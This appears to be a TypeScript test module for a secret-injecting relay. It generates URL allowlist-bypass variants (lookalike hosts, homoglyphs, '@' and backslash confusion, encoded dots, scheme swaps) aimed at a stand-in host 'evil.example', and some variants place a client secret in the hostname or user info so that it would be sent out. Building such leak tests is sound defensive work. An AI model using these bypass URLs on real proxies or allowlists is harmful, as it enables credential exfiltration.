import type { Target, Wish } from '../target.ts'
import { attempts, some, spread, type Attempt, type Vector } from '../vector.ts'

const evil = 'evil.example'

/** Rows 1, 3, 4 and 18: the url leads to another host, or looks like an allowed one. */
export function hosts(targets: readonly Target[]): Vector[] {
  return targets.flatMap((target, index) => {
    // With a wildcard host, the vulnerable relay accepts every host.
    const bare = target.isWildcard || index === 0 ? elsewhere(target) : spread(elsewhere(target), 6, index)
    return [
      ...attempts(1, target, [...urls(target, bare), ...otherKeys(target, targets)]),
      ...attempts(
        3,
        target,
        urls(target, [...some(lookalikes(target), index), ...(target.isWildcard ? underWildcard(target) : [])]),
      ),
      ...attempts(3, target, urls(target, some(harmless(target), index), { canLeak: false })),
      ...attempts(4, target, some(inAuthority(target), index)),
      ...attempts(18, target, urls(target, schemes(target), { mayCall: false })),
    ]
  })
}

type NamedUrl = [name: string, url: string]

function urls(target: Target, list: NamedUrl[], details: Partial<Attempt> = {}): [string, Attempt][] {
  return list.map(([name, url]) => [name, { request: target.baseline({ url }), ...details }])
}

function elsewhere({ scheme, host, port, path }: Target): NamedUrl[] {
  return [
    ['another host', `${scheme}//${evil}${port}${path}`],
    ['the allowed host in the path', `${scheme}//${evil}/${host}${path}`],
    ['the allowed url in the query', `${scheme}//${evil}${path}?url=${scheme}//${host}`],
    ['the allowed host as fragment', `${scheme}//${evil}${path}#${host}`],
    ['a backslash before the allowed host', `${scheme}//${evil}\\@${host}${path}`],
    ['a host with the same ending', `${scheme}//evil${host}${port}${path}`],
    ['a host with one letter more', `${scheme}//x${host}${port}${path}`],
    ['a host of circled letters', `${scheme}//ⓔⓥⓘⓛ.ⓔⓧⓐⓜⓟⓛⓔ${path}`],
    [
      'a host in another script',
      `${scheme}//${host.replace(/[aeo]/, (letter) => ({ a: 'а', e: 'е' })[letter] ?? 'о')}${port}${path}`,
    ],
    ['one slash only', `${scheme}/${evil}${path}`],
    ['no slash', `${scheme}${evil}${path}`],
    ['backslashes for slashes', `${scheme}\\\\${evil}${path}`],
    ['many slashes', `${scheme}/////${evil}${path}`],
    ['white space before', ` \t\n${scheme}//${evil}${path}`],
    ['tabs within', `${scheme}//ev\til.exa\nmple${path}`],
  ]
}

function lookalikes({ scheme, host, port, path }: Target): NamedUrl[] {
  const behind = (joint: string): string => `${scheme}//${host}${joint}${evil}${path}`
  return [
    ['the allowed host as a subdomain', behind('.')],
    ['the allowed host as a prefix', behind('')],
    ['the allowed host with a dash', behind('-')],
    ['the allowed host as user name', behind('@')],
    ['the allowed host as user name and password', behind(':443@')],
    ['the allowed host with a path in the user name', behind('%2f@')],
    ['two @', `${scheme}//${host}@${host}@${evil}${path}`],
    ['an encoded dot', behind('%2e')],
    ['an encoded dot in capitals', behind('%2E')],
    ['an ideographic dot', behind('。')],
    ['a full-width dot', behind('．')],
    ['a half-width dot', behind('｡')],
    ['a tab after the host', behind('\t.')],
    ['a line break after the host', behind('\n.')],
    ['CR LF after the host', behind('\r\n@')],
    ['a soft hyphen after the host', behind('\u00ad.')],
    ['a zero-width space after the host', behind('\u200b.')],
    ['a zero-width joiner after the host', behind('\u200d.')],
    ['circled letters after the host', `${scheme}//${host}.ⓔⓥⓘⓛ.ⓔⓧⓐⓜⓟⓛⓔ${path}`],
    ['full-width letters after the host', `${scheme}//${host}.ｅｖｉｌ.example${path}`],
    ['a full-width @', `${scheme}//${host}.＠${evil}${path}`.replace('.＠', '.at.')],
    ['a host in punycode after the host', `${scheme}//${host}.xn--evl-7oa.example${path}`],
    ['a trailing dot', `${scheme}//${host}.${port}${path}`],
    ['a trailing ideographic dot', `${scheme}//${host}。${port}${path}`],
    ...[81, 8443, 444, 65535, 1].map((other): NamedUrl => [`port ${other}`, `${scheme}//${host}:${other}${path}`]),
    ['one slash and user info', `${scheme}/${host}@${evil}${path}`],
    ['no slash and user info', `${scheme}${host}@${evil}${path}`],
    ['backslashes and user info', `${scheme}\\\\${host}@${evil}${path}`],
  ]
}

function underWildcard({ scheme, host, port, path }: Target): NamedUrl[] {
  const domain = host.slice(host.indexOf('.') + 1)
  return [
    ['two labels for one', `${scheme}//a.b.${domain}${port}${path}`],
    ['no label', `${scheme}//${domain}${port}${path}`],
    ['an empty label', `${scheme}//.${domain}${port}${path}`],
    ['the domain without a dot', `${scheme}//evil${domain}${port}${path}`],
    ['the domain as a label', `${scheme}//${domain}.${evil}${path}`],
    ['the domain after a slash', `${scheme}//${evil}/.${domain}${path}`],
    ['the domain as a fragment', `${scheme}//${evil}#.${domain}`],
    ['an encoded dot in the label', `${scheme}//a%2eb.${domain}${path}`],
    ['an ideographic dot in the label', `${scheme}//a。b.${domain}${path}`],
  ]
}

/** Urls that look malicious but lead to the allowed host. The relay may accept them, but the secret must stay in its place. */
function harmless({ scheme, host, port, path }: Target): NamedUrl[] {
  return [
    ['the host in capitals', `${scheme}//${host.toUpperCase()}${port}${path}`],
    [
      'the host in circled letters',
      `${scheme}//${host.replace(/[a-z]/, (letter) => String.fromCodePoint(0x24d0 + letter.charCodeAt(0) - 97))}${port}${path}`,
    ],
    ['a tab within the host', `${scheme}//${host.slice(0, 2)}\t${host.slice(2)}${port}${path}`],
    ['a fragment', `${scheme}//${host}${port}${path}#@${evil}`],
    ['another host after a backslash', `${scheme}//${host}${port}\\@${evil}`],
    ['a port with zeros', `${scheme}//${host}${port.replace(':', ':0')}${path}`],
  ]
}

function inAuthority(target: Target): [string, Attempt][] {
  const { scheme, host, path } = target
  const list: [string, string][] = [
    ['as a label', `${scheme}//$CLIENT_SECRET.${evil}${path}`],
    ['as a label of the allowed host', `${scheme}//$CLIENT_SECRET.${host}${path}`],
    ['as a label after the allowed host', `${scheme}//${host}.$CLIENT_SECRET.${evil}${path}`],
    ['as user name', `${scheme}//$CLIENT_SECRET@${host}${path}`],
    ['as password', `${scheme}//user:$CLIENT_SECRET@${host}${path}`],
    ['as user name at another host', `${scheme}//${host}:$CLIENT_SECRET@${evil}${path}`],
    ['as the host', `${scheme}//$CLIENT_SECRET${path}`],
  ]
  const meaningless: [string, string][] = [
    ['as the port', `${scheme}//${host}:$CLIENT_SECRET${path}`],
    ['as the scheme', `$CLIENT_SECRET://${host}${path}`],
    ['encoded, as a label', `${scheme}//%24CLIENT_SECRET.${evil}${path}`],
    ['in full width, as a label', `${scheme}//＄CLIENT_SECRET.${evil}${path}`],
    ['in circled letters, as a label', `${scheme}//$ⒸLIENT_SECRET.${evil}${path}`],
  ]
  return [
    ...list.map(([name, url]): [string, Attempt] => [name, { request: target.baseline({ url }) }]),
    // No host, port or scheme can hold such a secret, and only other programs read these spellings as the placeholder.
    ...meaningless.map(([name, url]): [string, Attempt] => [
      name,
      { request: target.baseline({ url }), canLeak: false },
    ]),
  ]
}

function schemes({ scheme, host, port, path }: Target): NamedUrl[] {
  const other = scheme === 'https:' ? 'http:' : 'https:'
  return [
    [`${other} in place of ${scheme}`, `${other}//${host}${port}${path}`],
    [`${other} in capitals`, `${other.toUpperCase()}//${host}${port}${path}`],
    [`${other} at the port of ${scheme}`, `${other}//${host}:${scheme === 'https:' ? 443 : 80}${path}`],
    ...['ws:', 'wss:', 'ftp:'].map((one): NamedUrl => [one, `${one}//${host}${port}${path}`]),
  ]
}

/** Sends one key's secret to a host of another key. */
function otherKeys(target: Target, targets: readonly Target[]): [string, Attempt][] {
  const others = targets.filter(({ keyName, host }) => keyName !== target.keyName && host !== target.host)
  return others
    .slice(0, 2)
    .map((other) => [
      `at the host of ${other.keyName}`,
      { request: other.baseline({ clientSecretName: target.keyName } satisfies Partial<Wish>) },
    ])
}
